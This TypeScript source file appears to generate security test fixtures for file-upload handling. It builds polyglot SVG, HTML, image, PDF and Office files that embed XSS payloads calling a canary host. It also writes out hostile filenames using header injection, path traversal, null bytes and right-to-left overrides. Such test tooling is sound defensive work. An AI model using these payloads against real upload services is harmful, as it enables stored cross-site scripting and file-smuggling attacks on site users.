import { crc32 } from "node:zlib";

/** A file that would run something, if anything let it. */
export interface Hostile {
  name: string;
  content: Buffer;
}

/** What a script says when it runs: to somebody who listens. */
function payloads(canary: string): string[] {
  const call = `fetch('${canary}/fetch',{mode:'no-cors'});new Image().src='${canary}/image';try{parent.__ran=1;top.__ran=1}catch(e){};alert(1)`;
  return [
    `<script>${call}</script>`,
    `<img src="${canary}/tag" onerror="${call}">`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"><script>${call}</script></svg>`,
    `<iframe srcdoc="<script>${call}</script>"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<link rel="stylesheet" href="${canary}/style"><style>@import '${canary}/import';</style>`,
    `<body onload="${call}"><object data="${canary}/object"></object>`,
    `<form action="${canary}/form"><input autofocus onfocus="this.form.submit()"></form>`,
    `*/${call}/*`,
  ];
}

/** An archive whose entries are not packed. */
export function zip(entries: [string, string][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let at = 0;
  for (const [name, text] of entries) {
    const [path, content] = [Buffer.from(name), Buffer.from(text)];
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc32(content), 14);
    local.writeUInt32LE(content.length, 18);
    local.writeUInt32LE(content.length, 22);
    local.writeUInt16LE(path.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc32(content), 16);
    central.writeUInt32LE(content.length, 20);
    central.writeUInt32LE(content.length, 24);
    central.writeUInt16LE(path.length, 28);
    central.writeUInt32LE(at, 42);
    locals.push(local, path, content);
    centrals.push(central, path);
    at += local.length + path.length + content.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...locals, directory, end]);
}

const contents: [string, string] = ["[Content_Types].xml", "<Types/>"];

function pdf(body: string, after = ""): Buffer {
  return Buffer.from(
    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n3 0 obj${body}endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n${after}`,
  );
}

function chunk(kind: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(kind), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** Files that a script hides in: each way with each of the scripts. */
export function hostiles(canary: string, jpeg: Buffer, png: Buffer): Hostile[] {
  const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
  const comment = (text: string) => {
    const bytes = Buffer.from(text);
    const head = Buffer.from([0xff, 0xfe, (bytes.length + 2) >> 8, (bytes.length + 2) & 255]);
    return Buffer.concat([jpeg.subarray(0, 2), head, bytes, jpeg.subarray(2)]);
  };
  const inPng = (text: string) =>
    Buffer.concat([png.subarray(0, 33), chunk("tEXt", Buffer.from(`Comment\0${text}`)), png.subarray(33)]);
  const ways: [string, (script: string) => Buffer][] = [
    ["plain.svg", (it) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${it}</svg>`)],
    [
      "prolog.svg",
      (it) => Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${it}</svg>`),
    ],
    ["picture.png", (it) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${it}</svg>`)],
    ["page.html", (it) => Buffer.from(`<!doctype html><html><body>${it}</body></html>`)],
    ["page.jpg", (it) => Buffer.from(`<!doctype html><html><body>${it}</body></html>`)],
    ["page.pdf", (it) => Buffer.from(`<html>${it}<!--%PDF-1.4 %%EOF-->`)],
    ["bom.jpg", (it) => Buffer.from(`\ufeff<html>${it}`)],
    ["wide.jpg", (it) => utf16(`<html>${it}`)],
    [
      "page.xhtml",
      (it) => Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${it}</html>`),
    ],
    ["styled.xml", (it) => Buffer.from(`<?xml-stylesheet href="${canary}/xsl"?><x>${it}</x>`)],
    ["page.mhtml", (it) => Buffer.from(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${it}`)],
    ["code.js", (it) => Buffer.from(`/*${it}*/`)],
    ["gif.gif", (it) => Buffer.from(`GIF89a/*${it}*/=1;`)],
    ["bmp.bmp", (it) => Buffer.from(`BM/*${it}*/=1;`)],
    ["behind.jpg", (it) => Buffer.concat([jpeg, Buffer.from(it)])],
    ["comment.jpg", comment],
    ["behind.png", (it) => Buffer.concat([png, Buffer.from(it)])],
    ["text.png", inPng],
    ["named.html", (it) => Buffer.concat([jpeg, Buffer.from(it)])],
    ["script.pdf", (it) => pdf(`<</S/JavaScript/JS(${it.replace(/[()\\]/g, "\\$&")})>>`)],
    ["link.pdf", () => pdf(`<</S/URI/URI(${canary}/pdf)>>`)],
    ["behind.pdf", (it) => pdf("<<>>", it)],
    ["inside.html", (it) => pdf("<<>>", `<html>${it}</html>%%EOF`)],
    [
      "remote.docx",
      (it) =>
        zip([
          contents,
          ["word/document.xml", `<w>${it}</w>`],
          [
            "word/_rels/document.xml.rels",
            `<Relationships><Relationship Target="${canary}/template" TargetMode="External"/></Relationships>`,
          ],
        ]),
    ],
    [
      "formula.xlsx",
      (it) => zip([contents, ["xl/workbook.xml", `<f>WEBSERVICE("${canary}/xlsx")</f>${it}`]]),
    ],
    ["macro.docx", (it) => zip([contents, ["word/document.xml", "<w/>"], ["word/vbaProject.bin", it]])],
    ["archive.docx", (it) => zip([["index.html", it]])],
    ["both.docx", (it) => Buffer.concat([Buffer.from(it), zip([contents, ["word/document.xml", "<w/>"]])])],
  ];
  const names = [
    "a.jpg\r\nContent-Type: text/html\r\n\r\n.jpg",
    'a"; filename="b.html',
    "../../../index.html",
    "\u202egpj.lmth",
    "a\u0000.html",
    `${"x".repeat(400)}.html`,
    "<script>alert(1)</script>.jpg",
    "javascript:alert(1)",
    "%2e%2e%2fa.html",
  ];
  const scripts = payloads(canary);
  const files = ways.flatMap(([name, make]) =>
    scripts.map((it, nth) => ({ name: `${nth}-${name}`, content: make(it) })),
  );
  return [
    ...files,
    ...names.map((name) => ({ name, content: Buffer.concat([jpeg, Buffer.from(scripts[0] ?? "")]) })),
  ];
}
